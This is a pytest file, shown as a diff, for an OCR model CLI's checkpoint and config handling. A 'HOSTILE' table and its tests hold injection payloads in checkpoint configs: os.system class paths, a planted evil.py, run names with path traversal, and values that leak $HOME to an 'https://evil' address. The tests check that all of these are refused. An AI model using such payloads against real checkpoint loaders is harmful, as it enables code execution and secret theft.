@@ -1,0 +1,375 @@
+"""Which checkpoint ``validate``, ``test``, ``predict``, ``calibrate`` and ``fit`` take, and with which config."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+from pathlib import Path
+from typing import Any
+
+import pytest
+import torch
+import yaml
+from PIL import Image
+
+from ocrnet_pl.cli.checkpoint_option import EVALUATING, UsageError, settle_checkpoint
+from ocrnet_pl.cli.lightning_cli import STORED
+from ocrnet_pl.cli.main import main
+from ocrnet_pl.errors import CheckpointError
+from ocrnet_pl.storage.latest_run import latest_checkpoint
+from ocrnet_pl.storage.stored_config import stored_config
+from tests.cli.test_cli import TINY, fails
+
+TRUST = ("--trust", "tests")
+
+
+@pytest.fixture(scope="module")
+def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The folder of a config and of the run that it made."""
+    folder = tmp_path_factory.mktemp("runs")
+    (folder / "tiny.yaml").write_text(TINY)
+    words = ["--config", str(folder / "tiny.yaml"), "--trainer.default_root_dir", str(folder / "runs")]
+    main(["fit", *words, "--trainer.max_epochs=1", "--data.evaluate_at=input"])
+    return folder
+
+
+@pytest.fixture(scope="module")
+def last(root: Path) -> Path:
+    return root / "runs" / "tiny" / "version_0" / "checkpoints" / "last.ckpt"
+
+
+@pytest.fixture(scope="module")
+def content(last: Path) -> dict[str, Any]:
+    found: dict[str, Any] = torch.load(last, weights_only=True)
+    return found
+
+
+def summary(folder: Path) -> dict[str, Any]:
+    found: dict[str, Any] = json.loads((folder / "summary.json").read_text())
+    return found
+
+
+def settled(*words: str) -> tuple[list[str], dict[str, Any] | None]:
+    return settle_checkpoint(list(words), STORED)
+
+
+@pytest.mark.parametrize("subcommand", EVALUATING)
+def test_without_a_checkpoint_nothing_is_evaluated(
+    subcommand: str, root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    words = ["--config", str(root / "tiny.yaml"), "--trainer.default_root_dir", str(tmp_path / "none")]
+    (tmp_path / "null.yaml").write_text(TINY + "ckpt_path: null\n")
+    for more in ([], ["--config", str(tmp_path / "null.yaml")]):
+        status, line = fails(capsys, subcommand, *words, *more)
+        assert status == 2
+        assert line.startswith(
+            f"error: {subcommand}: there is no checkpoint; give --ckpt_path FILE, such as --ckpt_path"
+        )
+        assert line.count("\n") == 1
+    assert not (tmp_path / "none").exists()
+
+
+@pytest.mark.parametrize(
+    ("subcommand", "asked", "line"),
+    [
+        *[(name, "", "ckpt_path: expected the file") for name in ("fit", *EVALUATING)],
+        *[(name, "hpc", "ckpt_path 'hpc'") for name in ("fit", "validate")],
+        *[(name, "registry:a:1", "ckpt_path 'registry:a:1'") for name in ("fit", "test")],
+        ("fit", "best", "ckpt_path 'best': training goes on from the last"),
+    ],
+)
+def test_what_is_no_checkpoint_takes_one_line(
+    subcommand: str, asked: str, line: str, root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    words = ["--config", str(root / "tiny.yaml"), "--trainer.default_root_dir", str(tmp_path / "none")]
+    status, said = fails(capsys, subcommand, *words, f"--ckpt_path={asked}")
+    assert status == 2
+    assert said.startswith(f"error: {line}") and said.count("\n") == 1
+    assert not (tmp_path / "none").exists()
+
+
+def test_the_options_and_their_values_are_shown_all_the_same() -> None:
+    for words in (["validate", "--help"], ["calibrate", "-h"], ["test", "--print_config"], ["fit"], ["check"]):
+        assert settled(*words) == (words, None)
+
+
+def make_run(root: Path, name: str, version: str, age: int, files: tuple[str, ...] = ("last.ckpt",)) -> Path:
+    folder = root / name / version / "checkpoints"
+    folder.mkdir(parents=True)
+    for file in files:
+        (folder / file).write_text("x")
+        os.utime(folder / file, (10_000 - age, 10_000 - age))
+    return folder
+
+
+def test_the_newest_run_is_newest_by_time(tmp_path: Path) -> None:
+    make_run(tmp_path, "a", "version_10", age=5)
+    newest = make_run(tmp_path, "a", "version_2", age=1)
+    make_run(tmp_path, "b", "version_0", age=0)
+    # The folder of an evaluation, and that of a run which has just begun.
+    (tmp_path / "a" / "version_11").mkdir()
+    make_run(tmp_path, "a", "version_12", age=0, files=())
+    assert latest_checkpoint("last", tmp_path, "a") == newest / "last.ckpt"
+    (newest / "last.ckpt").unlink()
+    (newest / "epoch.ckpt").write_text("x")
+    with pytest.raises(FileNotFoundError, match=r"the newest run, .*version_2.*, has no .*last\.ckpt"):
+        latest_checkpoint("last", tmp_path, "a")
+    with pytest.raises(FileNotFoundError, match=r"no checkpoint in .*absent.*; there are checkpoints of a, b; give"):
+        latest_checkpoint("last", tmp_path, "absent")
+    with pytest.raises(FileNotFoundError, match=r"no checkpoint in '.*nowhere/a/\*/checkpoints'; give the"):
+        latest_checkpoint("best", tmp_path / "nowhere", "a")
+
+
+def test_the_best_is_what_the_run_says(root: Path, last: Path, tmp_path: Path) -> None:
+    said = summary(last.parents[1])["best_checkpoint"]
+    assert latest_checkpoint("best", root / "runs", "tiny") == Path(said)
+    # A folder that was moved, then without its summary, then without the file itself.
+    moved = tmp_path / "runs" / "tiny" / "elsewhere"
+    shutil.copytree(last.parents[1], moved)
+    assert latest_checkpoint("best", tmp_path / "runs", "tiny") == Path(said)
+    text = (moved / "summary.json").read_text().replace(str(last.parent), "/absent")
+    (moved / "summary.json").write_text(text)
+    best = moved / "checkpoints" / Path(said).name
+    assert latest_checkpoint("best", tmp_path / "runs", "tiny") == best
+    (moved / "summary.json").unlink()
+    assert latest_checkpoint("best", tmp_path / "runs", "tiny") == Path(said)
+    (moved / "summary.json").write_text(text)
+    best.unlink()
+    with pytest.raises(FileNotFoundError, match=r"'/absent/.*is not there any more"):
+        latest_checkpoint("best", tmp_path / "runs", "tiny")
+    for damage in ("{", "[]", '"x"'):
+        (moved / "summary.json").write_text(damage)
+        with pytest.raises(CheckpointError, match=r"summary\.json': damaged"):
+            latest_checkpoint("best", tmp_path / "runs", "tiny")
+    (moved / "summary.json").unlink()
+    (moved / "checkpoints" / "last.ckpt").rename(moved / "checkpoints" / "other.ckpt")
+    with pytest.raises(FileNotFoundError, match=r"neither .* nor .* says which"):
+        latest_checkpoint("best", tmp_path / "runs", "tiny")
+
+
+def test_last_and_best_are_those_of_the_configs_name(
+    root: Path, last: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    best = summary(last.parents[1])["best_checkpoint"]
+    (tmp_path / "named.yaml").write_text(
+        f"name: tiny\ntrainer: {{default_root_dir: {root / 'runs'}}}\nckpt_path: last\n"
+    )
+    named, runs = ["--config", str(tmp_path / "named.yaml")], ["--trainer.default_root_dir", str(root / "runs")]
+    whole = ["--config", str(root / "tiny.yaml")]
+    for words, path in (
+        (["fit", *whole, *runs, "--ckpt_path=last"], last),
+        (["validate", *whole, *runs, "--ckpt_path", "best"], best),
+        (["test", *whole, *runs, "--ckpt_path", "best", "--name", "other", "--name", "tiny"], best),
+        (["predict", *whole, *named], last),
+        (["calibrate", *TRUST, *named, "--ckpt_path=best"], best),
+        (["validate", *TRUST, "--name=tiny", *runs, "--ckpt_path=last"], last),
+    ):
+        found, config = settled(*words)
+        assert found[-1] == f"--ckpt_path={path}"
+        said = capsys.readouterr().err.splitlines()
+        assert said[0] in (f"ckpt_path last: {path}", f"ckpt_path best: {path}")
+        assert (config is None) == (whole[1] in words)
+        assert config is None or said[1:] == [f"config: the checkpoint's own, of {path}"]
+    status, line = fails(capsys, "test", *whole, "--name=other", *runs, "--ckpt_path=last")
+    assert status == 1
+    assert "other/*/checkpoints" in line and "there are checkpoints of tiny" in line and line.count("\n") == 1
+
+
+def test_a_checkpoint_is_enough(last: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """In another folder, with options and a config laid over the checkpoint's own."""
+    monkeypatch.chdir(tmp_path)
+    path = tmp_path / "given.ckpt"
+    shutil.copy(last, path)
+    (tmp_path / "over.yaml").write_text(
+        "pictures: {enabled: false}\nmodel: {multiscale: {scales: [1.0], flip: true}}\n"
+    )
+    words = ["--ckpt_path", str(path), *TRUST, "--config", "over.yaml", "--data.val.init_args.length=3"]
+    main(["validate", *words])
+    run = tmp_path / "runs" / "tiny" / "version_0"
+    written = yaml.safe_load((run / "config.yaml").read_text())
+    assert written["data"]["evaluate_at"] == "input"
+    assert written["data"]["val"]["init_args"]["length"] == 3
+    assert written["data"]["train"] is None
+    assert written["model"]["neck"]["init_args"]["width"] == 8
+    assert written["model"]["multiscale"]["flip"] is True
+    assert written["pictures"]["enabled"] is False
+    Image.new("RGB", (40, 30)).save(tmp_path / "one.png")
+    main(["predict", "--ckpt_path", str(path), *TRUST, "--data.predict_path=one.png", "--prediction.overlays=false"])
+    assert (tmp_path / "runs" / "tiny" / "version_1" / "predictions" / "predictions.json").is_file()
+    assert summary(run)["best_checkpoint"] == str(path)
+
+
+def change(content: dict[str, Any], key: str, value: Any) -> dict[str, Any]:
+    """Return a checkpoint whose config has another value."""
+    config = json.loads(json.dumps(content["config"]))
+    *folders, name = key.split(".")
+    at = config
+    for folder in folders:
+        at = at[folder]
+    at[name] = value
+    return content | {"config": config}
+
+
+SYSTEM = {"class_path": "os.system", "init_args": {"command": "touch was_here"}}
+HOSTILE: dict[str, tuple[str, Any, str]] = {
+    "a neck": ("model.neck", SYSTEM, "is no class of ocrnet_pl"),
+    "a loss": ("model.detection_loss.init_args.box_loss", SYSTEM, "is no class of ocrnet_pl"),
+    "balancing": ("model.balancing", SYSTEM, "is no class of ocrnet_pl"),
+    "tiles": ("model.tile", SYSTEM, "is no class of ocrnet_pl"),
+    "a source": ("data.val", SYSTEM, "is no class of ocrnet_pl"),
+    "a source in a source": (
+        "data.val",
+        {"class_path": "Partial", "init_args": {"source": {"class_path": "evil.Source"}, "tasks": ["detection"]}},
+        "is no class of ocrnet_pl",
+    ),
+    "no source": ("data.val", {"class_path": "ocrnet_pl.models.necks.PathAggregationNeck"}, "is no Source"),
+    "disagreements": ("disagreements.finder", SYSTEM, "is no class of ocrnet_pl"),
+    "pictures": ("pictures.count", SYSTEM, "is no class of ocrnet_pl"),
+    "text": ("model.neck", "os.system", "is no class of ocrnet_pl"),
+    "YAML": ("data.val", "{class_path: os.system}", "cannot stand here"),
+    "a folder": ("name", "../../elsewhere", "is no name of a run"),
+    "an absolute folder": ("name", "/tmp/elsewhere", "is no name of a run"),
+    "no name": ("name", ["x"], "is no name of a run"),
+    "a secret": (
+        "data.val.init_args.root",
+        "https://evil/${oc.env:HOME}",
+        "that also names the address 'https://evil/",
+    ),
+    "a secret, hidden": ("data.val.init_args.root", "${oc.env:NONE,https:}//evil/${oc.env:HOME}", "names the address"),
+    "a secret elsewhere": (
+        "data.val.init_args",
+        {"path": "${oc.env:HOME}", "root": "https://evil"},
+        "data.val.init_args.path: '\\${oc.env:HOME}' is not taken",
+    ),
+    "a variable that is not set": ("data.val.init_args.root", "${oc.env:NONE}", "'NONE' is not set"),
+    "a name of a variable": ("name", "${oc.env:NONE,../x}", "is no name of a run"),
+    "chained addresses": ("data.val.init_args.path", "filecache::https://evil/x", "is not taken from a checkpoint"),
+    "an unknown option": ("model.evil", 1, "this version has no option 'evil'"),
+    "an unknown option of a source": ("data.val.init_args.evil", 1, "has no option 'evil'"),
+    "no model": ("model", 5, "there is no section 'model'"),
+    "no data": ("data", None, "there is no section 'data'"),
+}
+
+
+@pytest.mark.parametrize("case", HOSTILE)
+def test_a_hostile_config_in_a_checkpoint_does_nothing(
+    case: str, content: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    key, value, line = HOSTILE[case]
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "evil.py").write_text("open('was_here', 'w')\n")
+    monkeypatch.syspath_prepend(tmp_path)
+    path = tmp_path / "made_up.ckpt"
+    torch.save(change(content, key, value) | {"state_dict": {}, "current_model_state": {}}, path)
+    with pytest.raises(CheckpointError, match=line) as refused:
+        settled("validate", "--ckpt_path", str(path), *TRUST)
+    assert "\n" not in str(refused.value)
+    assert not (tmp_path / "was_here").exists()
+
+
+def test_what_belongs_to_training_is_left_out(content: dict[str, Any]) -> None:
+    """Not even looked at: foreign classes there need no trust."""
+    changed = content
+    for key, value in {
+        "trainer.callbacks": [SYSTEM],
+        "trainer.logger": SYSTEM,
+        "trainer.plugins": [SYSTEM],
+        "trainer.strategy": SYSTEM,
+        "trainer.profiler": SYSTEM,
+        "trainer.devices": 8,
+        "trainer.precision": "bf16-mixed",
+        "trainer.default_root_dir": "/elsewhere",
+        "model.optimizer": SYSTEM,
+        "model.compile_backend": "inductor",
+        "data.train": SYSTEM,
+        "data.train_transforms": [SYSTEM],
+        "data.predict_path": "/elsewhere",
+        "data.cache": {"folder": "/elsewhere"},
+        "early_stopping": SYSTEM,
+        "checkpoint": SYSTEM,
+    }.items():
+        changed = change(changed, key, value)
+    config, missed = stored_config(changed, "validate", STORED, (), ["tests"], "here")
+    assert missed == []
+    assert config["trainer"] == {"precision": "bf16-mixed"}
+    assert config["seed_everything"] == 0
+    assert set(config) == {"name", "seed_everything", "trainer", *STORED}
+    assert "train" not in config["data"] and "optimizer" not in config["model"]
+    assert config["data"]["val"] == content["config"]["data"]["val"]
+    assert "val" not in stored_config(changed, "predict", STORED, (), ["tests"], "here")[0]["data"]
+    # What the command line replaces is not looked at either.
+    hostile = change(content, "model.encoder", SYSTEM)
+    assert "encoder" not in stored_config(hostile, "validate", STORED, ["model.encoder"], [], "here")[0]["model"]
+    with pytest.raises(CheckpointError, match="it holds no config; give the one"):
+        stored_config({}, "validate", STORED, (), (), "here")
+
+
+def test_folders_and_rights_of_a_source_are_given_here(content: dict[str, Any], tmp_path: Path) -> None:
+    packed = {
+        "class_path": "ocrnet_pl.data.shards.source.Packed",
+        "init_args": {"path": "val", "root": "/then", "cache": "/elsewhere", "storage_options": {"key": "x"}},
+    }
+    changed = change(change(content, "data.val", packed), "data.root", "/then")
+    packed["init_args"]["path"] = "${oc.env:HOME}/val"
+    config, missed = stored_config(change(changed, "data.val", packed), "validate", STORED, (), ["tests"], "here")
+    assert config["data"]["val"]["init_args"] == {"path": "${oc.env:HOME}/val", "root": "."}
+    assert config["data"]["root"] == "/then"
+    assert missed == ["data.val.init_args.cache", "data.val.init_args.storage_options"]
+
+
+def test_an_old_folder_of_the_data_takes_one_line(
+    content: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = {
+        "class_path": "ocrnet_pl.data.sources.coco.CocoInstances",
+        "init_args": {"annotations": "val.json", "images": "images", "root": "/then"},
+    }
+    path = tmp_path / "old.ckpt"
+    torch.save(change(change(content, "data.val", source), "data.root", "/then"), path)
+    status, said = fails(capsys, "validate", "--ckpt_path", str(path), *TRUST, "--data.root=/now")
+    assert status == 1
+    error = [line for line in said.splitlines() if line.startswith("error:")]
+    assert len(error) == 1 and "/now/val.json" in error[0]
+    assert "Traceback" not in said
+    # Without another folder it is the old one.
+    _, config = settled("validate", "--ckpt_path", str(path), *TRUST)
+    assert config is not None and config["data"]["root"] == "/then"
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        ["--trust", "tests", "--trust", "a.b"],
+        ["--trust=tests", "--trust=a.b"],
+        ["--trust", "tests", "a.b"],
+        ["--trust", "[tests, a.b]"],
+        ['--trust=["tests","a.b"]'],
+        ["--trust=tests,a.b"],
+    ],
+)
+def test_trust_may_be_given_again_or_as_a_list(words: list[str], root: Path) -> None:
+    config = str(root / "tiny.yaml")
+    found, own = settled("calibrate", *words, "--config", config, "--ckpt_path", "x.ckpt")
+    assert found == ["calibrate", "--config", config, "--ckpt_path", "x.ckpt", '--trust=["tests", "a.b"]']
+    assert own is None
+
+
+@pytest.mark.parametrize("name", ["*", "", "a b", "os;"])
+def test_only_packages_are_trusted(name: str) -> None:
+    with pytest.raises(UsageError, match="is no package"):
+        settled("validate", "--ckpt_path", "x.ckpt", "--trust", name)
+
+
+def test_a_whole_config_stands_for_itself(root: Path, last: Path, tmp_path: Path) -> None:
+    """A config that names an encoder and a source is not mixed with the checkpoint's."""
+    words = ["validate", "--config", str(root / "tiny.yaml"), "--ckpt_path", str(last)]
+    assert settled(*words) == (words, None)
+    over = tmp_path / "over.yaml"
+    over.write_text("data: {val: {class_path: SyntheticSource}}\n")
+    _, config = settled("validate", "--config", str(over), "--ckpt_path", str(last), *TRUST)
+    assert config is not None and "val" not in config["data"]
+    _, config = settled("validate", "--model.encoder", "tests.helpers.builders.TinyEncoder", "--ckpt_path", str(last))
+    assert config is not None and "encoder" not in config["model"] and config["data"]["val"]
+    with pytest.raises(UsageError, match="config of a checkpoint at an address"):
+        settled("validate", "--ckpt_path", "https://example.com/last.ckpt")
